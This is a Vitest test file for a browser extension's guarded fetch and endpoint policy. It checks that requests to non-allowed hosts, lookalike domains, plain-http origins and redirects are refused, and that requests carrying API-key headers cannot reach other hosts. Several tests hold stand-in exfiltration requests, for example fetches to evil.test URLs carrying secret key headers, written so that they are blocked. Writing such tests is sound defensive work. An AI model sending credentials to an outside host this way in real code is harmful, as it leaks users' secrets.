import { describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { findRefusal, isLoopback, isSecureTransport, parseEndpoint, RequestRefusedError } from '@/lib/network/endpoint-policy';
import { createGuardedFetch, installWorkerFetchGuard } from '@/lib/worker/network/guarded-fetch';

type Fetch = typeof fetch;
interface Call {
  input: Parameters<Fetch>[0];
  init: RequestInit | undefined;
}

/** A stand-in for the platform's fetch: records each call and answers with the given response. */
function platformFetch(respond: () => Response = () => new Response('ok', { status: 200 })) {
  const calls: Call[] = [];
  const fetchStub: Fetch = async (input, init) => {
    calls.push({ input, init });
    return respond();
  };
  return { calls, fetch: fetchStub };
}

/** What a browser hands back for redirect: 'manual' (a Response cannot be built with this type). */
function opaqueRedirect(): Response {
  return Object.defineProperties(new Response(null, { status: 200 }), {
    type: { value: 'opaqueredirect' },
    status: { value: 0 },
  });
}

async function refusal(promise: Promise<unknown>): Promise<RequestRefusedError> {
  const error = await promise.then(
    () => undefined,
    (reason: unknown) => reason,
  );
  expect(error).toBeInstanceOf(RequestRefusedError);
  return error as RequestRefusedError;
}

describe('endpoint policy', () => {
  it('treats localhost, 127.0.0.1 and [::1] as loopback, and nothing else', () => {
    for (const url of ['http://localhost:11434', 'http://127.0.0.1', 'http://[::1]:8080']) expect(isLoopback(new URL(url)), url).toBe(true);
    for (const url of ['http://localhost.evil.test', 'http://127.0.0.2', 'http://10.0.0.1', 'http://example.com'])
      expect(isLoopback(new URL(url)), url).toBe(false);
  });

  it('allows https anywhere and http to loopback only', () => {
    expect(isSecureTransport(new URL('https://example.com'))).toBe(true);
    expect(isSecureTransport(new URL('http://localhost:11434'))).toBe(true);
    expect(isSecureTransport(new URL('http://example.com'))).toBe(false);
    expect(isSecureTransport(new URL('ws://localhost'))).toBe(false);
  });

  it('parses endpoints, refusing garbage and credentials', () => {
    expect(parseEndpoint(' https://api.openai.com/v1 ')?.origin).toBe('https://api.openai.com');
    expect(parseEndpoint('not a url')).toBeUndefined();
    expect(parseEndpoint('https://user:pass@api.openai.com')).toBeUndefined();
  });

  it('finds a refusal wrapped in causes, as SDKs wrap fetch errors', () => {
    const refused = new RequestRefusedError('redirect-refused', 'api.openai.com');
    const wrapped = new Error('Connection error.', { cause: new TypeError('fetch failed', { cause: refused }) });
    expect(findRefusal(wrapped)).toBe(refused);
    expect(findRefusal(new Error('plain'))).toBeUndefined();
    expect(findRefusal(undefined)).toBeUndefined();
  });
});

describe('createGuardedFetch', () => {
  it('passes an allowed request on, with redirect: manual and the caller’s options kept', async () => {
    const platform = platformFetch();
    const guarded = createGuardedFetch(['https://api.openai.com'], platform.fetch);
    const response = await guarded('https://api.openai.com/v1/chat/completions', {
      method: 'POST',
      headers: { authorization: 'Bearer test' },
      body: '{}',
      redirect: 'follow',
    });
    expect(await response.text()).toBe('ok');
    expect(platform.calls).toHaveLength(1);
    const call = platform.calls[0];
    expect(call?.input).toBe('https://api.openai.com/v1/chat/completions');
    expect(call?.init).toMatchObject({ method: 'POST', body: '{}', redirect: 'manual', headers: { authorization: 'Bearer test' } });
  });

  it('accepts URL and Request inputs', async () => {
    const platform = platformFetch();
    const guarded = createGuardedFetch(['https://api.anthropic.com'], platform.fetch);
    await guarded(new URL('https://api.anthropic.com/v1/messages'));
    await guarded(new Request('https://api.anthropic.com/v1/models'));
    expect(platform.calls).toHaveLength(2);
    expect(platform.calls.every((call) => call.init?.redirect === 'manual')).toBe(true);
  });

  it.each([
    ['another host', 'https://evil.test/steal'],
    ['a lookalike with the allowed host as a prefix', 'https://api.openai.com.evil.test/v1/chat/completions'],
    ['a subdomain of the allowed host', 'https://x.api.openai.com/v1'],
    ['the allowed host on another port', 'https://api.openai.com:8443/v1'],
    ['the allowed host over plain http', 'http://api.openai.com/v1'],
  ])('refuses %s without calling the network', async (_label, url) => {
    const platform = platformFetch();
    const guarded = createGuardedFetch(['https://api.openai.com'], platform.fetch);
    const error = await refusal(guarded(url));
    expect(error.reason).toBe('host-refused');
    expect(error.host).toBe(new URL(url).host);
    expect(platform.calls).toHaveLength(0);
  });

  it('refuses plain http to a non-loopback host even when that origin is allowed', async () => {
    const platform = platformFetch();
    const guarded = createGuardedFetch(['http://ollama.lan:11434'], platform.fetch);
    expect((await refusal(guarded('http://ollama.lan:11434/api/tags'))).reason).toBe('host-refused');
    expect(platform.calls).toHaveLength(0);
  });

  it('allows plain http to loopback', async () => {
    const platform = platformFetch();
    const guarded = createGuardedFetch(['http://localhost:11434', 'http://[::1]:11434'], platform.fetch);
    await guarded('http://localhost:11434/api/tags');
    await guarded('http://[::1]:11434/api/tags');
    expect(platform.calls).toHaveLength(2);
  });

  it.each([301, 302, 303, 307, 308])('turns a %i into redirect-refused', async (status) => {
    const platform = platformFetch(() => new Response(null, { status, headers: { location: 'https://evil.test/' } }));
    const guarded = createGuardedFetch(['https://api.openai.com'], platform.fetch);
    const error = await refusal(guarded('https://api.openai.com/v1/models'));
    expect(error.reason).toBe('redirect-refused');
    expect(error.host).toBe('api.openai.com');
    expect(platform.calls).toHaveLength(1);
  });

  it('turns an opaqueredirect response into redirect-refused', async () => {
    const platform = platformFetch(opaqueRedirect);
    const guarded = createGuardedFetch(['https://generativelanguage.googleapis.com'], platform.fetch);
    expect((await refusal(guarded('https://generativelanguage.googleapis.com/v1beta/models'))).reason).toBe('redirect-refused');
  });

  it('releases the body of a refused redirect', async () => {
    let cancelled = false;
    const body = new ReadableStream({
      cancel() {
        cancelled = true;
      },
    });
    const platform = platformFetch(() => new Response(body, { status: 302 }));
    const guarded = createGuardedFetch(['https://api.openai.com'], platform.fetch);
    await refusal(guarded('https://api.openai.com/v1'));
    expect(cancelled).toBe(true);
  });

  it('returns error statuses as they are, for the adapters to read', async () => {
    const platform = platformFetch(() => new Response('{"error":"bad key"}', { status: 401 }));
    const response = await createGuardedFetch(['https://api.openai.com'], platform.fetch)('https://api.openai.com/v1');
    expect(response.status).toBe(401);
    expect(await response.text()).toBe('{"error":"bad key"}');
  });
});

describe('installWorkerFetchGuard', () => {
  function guardedScope(respond?: () => Response) {
    const platform = platformFetch(respond);
    const scope = { fetch: platform.fetch };
    installWorkerFetchGuard(scope);
    return { scope, calls: platform.calls };
  }

  it.each(['authorization', 'x-api-key', 'x-goog-api-key', 'x-openai-key', 'X-Goog-Api-Key', 'api-key'])(
    'guards a request carrying %s',
    async (header) => {
      const { scope, calls } = guardedScope();
      const refused = await refusal(scope.fetch('http://evil.test/collect', { headers: { [header]: 'secret' } }));
      expect(refused.reason).toBe('host-refused');
      expect(calls).toHaveLength(0);
      // A secure request still goes out, with redirects stopped.
      await scope.fetch('https://generativelanguage.googleapis.com/v1beta/models', { headers: { [header]: 'secret' } });
      expect(calls.at(-1)?.init?.redirect).toBe('manual');
    },
  );

  it('guards a Request object whose headers carry the key', async () => {
    const { scope, calls } = guardedScope();
    const request = new Request('http://evil.test/collect', { headers: { 'x-goog-api-key': 'secret' } });
    await refusal(scope.fetch(request));
    expect(calls).toHaveLength(0);
  });

  it('refuses a redirect on a keyed request', async () => {
    const { scope } = guardedScope(() => new Response(null, { status: 307, headers: { location: 'https://evil.test' } }));
    const refused = await refusal(
      scope.fetch('https://generativelanguage.googleapis.com/v1beta/models', { headers: new Headers({ 'x-goog-api-key': 'k' }) }),
    );
    expect(refused.reason).toBe('redirect-refused');
  });

  it('lets a request without a key header through untouched', async () => {
    const { scope, calls } = guardedScope(() => new Response(null, { status: 302 }));
    const init: RequestInit = { headers: { accept: 'application/json', 'content-type': 'text/plain' }, redirect: 'follow' };
    const response = await scope.fetch('http://example.com/page', init);
    expect(response.status).toBe(302);
    expect(calls).toEqual([{ input: 'http://example.com/page', init }]);
    await scope.fetch('https://example.com/no-init');
    expect(calls.at(-1)).toEqual({ input: 'https://example.com/no-init', init: undefined });
  });
});

describe('a provider SDK’s guarded fetch in the worker', () => {
  it('is guarded once, not again by the worker-wide guard: one access check, one split of the body', async () => {
    const platform = platformFetch(() => new Response('data: {"text":"first"}\n\n'));
    const contains = vi.spyOn(fakeBrowser.permissions, 'contains').mockResolvedValue(true);
    const saved = globalThis.fetch;
    globalThis.fetch = platform.fetch;
    try {
      installWorkerFetchGuard();
      // What the SDKs get: a guarded fetch for the provider's origin (here one the user granted).
      const sdkFetch = createGuardedFetch(['https://llm.example.com']);
      const response = await sdkFetch('https://llm.example.com/v1/chat/completions', { headers: { authorization: 'Bearer k' } });
      expect(await response.text()).toBe('data: {"text":"first"}\n\n');
      expect(platform.calls).toHaveLength(1);
      expect(contains).toHaveBeenCalledTimes(1);
    } finally {
      globalThis.fetch = saved;
      contains.mockRestore();
    }
  });
});
